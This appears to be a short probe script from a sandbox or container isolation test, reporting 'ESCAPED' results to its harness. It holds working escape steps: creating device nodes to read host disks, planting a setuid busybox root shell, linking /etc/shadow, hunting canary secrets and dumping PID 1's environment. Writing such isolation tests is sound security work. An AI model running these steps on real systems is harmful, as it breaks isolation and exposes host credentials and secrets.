# Makes nodes of the host's disks and a setuid program, and searches itself for the host's secret.
# verdict: made what it could
start
for number in "8 0" "8 1" "254 0" "252 0" "259 0"; do
    mknod /disk b $number && dd if=/disk of=/tmp/sector bs=512 count=1 2>/dev/null && say "ESCAPED: read disk $number"
    rm -f /disk
done
cp /bin/busybox /rootsh
chmod 4755 /rootsh
ln -s /etc/shadow /run/results
found=$(find / -xdev -name 'canary*' | head -3)
[ -z "$found" ] || say "ESCAPED: $found"
tr '\0' '\n' </proc/1/environ >/tmp/variables
{ header 2 0 "$(wc -c </tmp/variables)"; cat /tmp/variables; } >&3
say "made what it could
"
end 0
for_ever
